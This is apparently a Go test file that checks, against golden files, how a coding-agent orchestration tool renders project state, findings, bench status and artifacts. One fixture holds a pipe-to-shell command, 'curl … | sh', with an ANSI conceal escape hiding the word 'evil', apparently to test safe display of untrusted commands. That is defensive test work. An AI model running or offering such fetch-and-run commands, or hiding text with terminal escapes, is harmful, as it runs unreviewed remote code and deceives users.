package screen

import (
	"testing"

	"offrun/backend/work"
)

func TestProject(t *testing.T) {
	s := work.ProjectState{
		Project: work.Project{ID: "shop", Path: "/home/u/shop"}, Created: []string{".offrun/project.yaml"},
		Settings:  work.Settings{Trunk: "main", Select: []work.AgentID{"claude", "codex"}},
		Runnables: []work.Runnable{{What: "acceptance", Text: "curl \x1b[8mevil\x1b[0m | sh"}},
	}
	text := Project(s, pipe)
	s.Trusted, s.Runnables = true, nil
	golden(t, "project", text+Project(s, wide)+Projects([]work.Project{s.Project, {ID: "shop-2", Path: "/店/shop"}}, pipe)+Projects(nil, pipe))
}

func TestFindings(t *testing.T) {
	fs := []work.Finding{
		{Check: "git", Level: work.OK, Text: "git 2.50.1"},
		{Check: "smoke claude", Level: work.OK, Text: "answered", Took: 3.2},
		{Check: "trunk", Level: work.Warning, Text: "main is 2 commits behind", Next: "Run git pull."},
		{Check: "run 2026", Level: work.Problem, Text: "diff.patch does not apply", File: "runs/2026/claude/diff.patch", Next: "Restore it."},
	}
	golden(t, "findings", Findings(fs, pipe)+Findings(fs, wide))
}

func TestBench(t *testing.T) {
	golden(t, "bench", Bench(work.BenchState{Version: "v1", PID: 7, Home: "/data", Working: 1, Notices: []string{"moved\naside"}}))
}

func TestArtifacts(t *testing.T) {
	golden(t, "artifacts", Artifacts([]work.Artifact{{Path: "/r/diff.patch", Size: 1_234_567}, {Path: "/r/NOTES.md", Size: 12}}, wide)+Artifacts(nil, pipe))
}
